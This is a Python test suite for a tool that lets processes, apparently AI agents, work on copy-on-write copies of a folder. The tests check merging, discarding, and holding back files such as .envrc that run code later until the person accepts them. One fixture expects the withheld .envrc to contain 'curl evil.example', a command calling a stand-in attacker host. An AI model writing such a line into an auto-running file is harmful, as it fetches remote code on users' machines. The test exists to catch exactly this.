"""Work on a copy: a child changes it, its parent merges a part, and the person decides about the rest."""

from __future__ import annotations

from people import SCRIPTS, Person

SEEN = "/work"
"""The folder as its processes see it."""


def test_a_child_works_on_a_copy_its_parent_merges_and_the_person_accepts_the_rest(person: Person) -> None:
    person.files(a__txt="one\n")
    done = person.run("copying.py:parent", "improve it", "--program", "planner")
    assert done.out.strip() == "merged 3: a.txt, deep, deep/new.txt"
    assert (person.work / "a.txt").read_text() == "two\n"
    assert (person.work / "deep" / "new.txt").read_text() == "new\n"
    assert not (person.work / ".envrc").exists()

    shown = person.gemot("diff", "2").out
    assert ".envrc (NOT MERGED: it runs code later" in shown and "+curl evil.example" in shown
    (listed,) = person.notes(person.gemot("diff", "2", "--json"))
    assert "it runs code later" in listed.pop("why")
    assert listed == {
        "path": f"{SEEN}/.envrc",
        "what": "added",
        "kind": "file",
        "merges": False,
        "unless": ["accept"],
        "added": 1,
        "removed": 0,
    }
    refused = person.gemot("merge", "2", code=3)
    assert "gemot merge 2 --accept .envrc" in refused.err and not (person.work / ".envrc").exists()
    assert "1 copies" in person.gemot("doctor", code=None).out
    assert "is not merged" in person.gemot("archive", "1", "tree.gemot", code=2).err
    assert person.gemot("merge", "2", "--accept", ".envrc").out == "merged .envrc\n"
    assert (person.work / ".envrc").exists()
    assert "nothing is in the copy" in person.gemot("diff", "2").out
    assert person.gemot("diff", "2", "--json").out == ""
    person.gemot("archive", "1", "tree.gemot")


def test_a_run_on_a_copy_changes_nothing_until_the_person_merges(person: Person) -> None:
    person.files(a__txt="one\n")
    words = ("run", "write", "--model", f"scripted:{script()}", "--work", f"{person.work}:cow")
    for pid in ("1", "2"):
        told = f"process {pid} changed its copy: gemot diff {pid} shows what, gemot merge {pid} brings it home"
        assert told in person.gemot(*words).err
        assert not (person.work / "b.txt").exists()
        assert "added b.txt" in person.gemot("diff", pid).out
    assert person.gemot("discard", "1").out == "discarded /work of 1\n"
    assert person.gemot("merge", "2", "b.txt").out == "merged b.txt\n"
    assert (person.work / "b.txt").read_text() == "b\n"
    for bad in (("diff", "9"), ("merge", "2", "/other/b.txt"), ("discard", "x")):
        person.gemot(*bad, code=2)


def test_who_is_told_of_what_was_changed_on_a_copy(person: Person) -> None:
    words = ("run", "write", "--model", f"scripted:{script()}", "--work", f"{person.work}:cow")
    for quietly in ("-q", "--json"):
        assert person.gemot(*words, quietly).err == ""
    unchanged = f"scripted:{SCRIPTS / 'copying.py'}:idle"
    assert "changed its copy" not in person.gemot(*words[:3], unchanged, *words[4:]).err
    waiting = f"scripted:{SCRIPTS / 'trouble.py'}:asker"
    host = person.begin("run", "wait", "--model", waiting, "--asks", "wait", "-q")
    person.until(lambda: "process 4 asks" in person.gemot("asks", code=None).out)
    visit = person.gemot(*words)
    assert "process 5 changed its copy" in visit.err and host.poll() is None, "at the machine of another terminal"


def script() -> str:
    return str(SCRIPTS / "copying.py") + ":alone"


def test_a_file_that_runs_code_later_is_written_only_with_a_yes(person: Person) -> None:
    done = person.run("copying.py:hooks", "write it", code=5)
    assert "files/write" in done.err and not (person.work / ".envrc").exists()
    assert "runs code later" in person.gemot("asks").out
    person.gemot("answer", "1", "no")
    assert person.gemot("resume", "1").out.strip() == "not written"
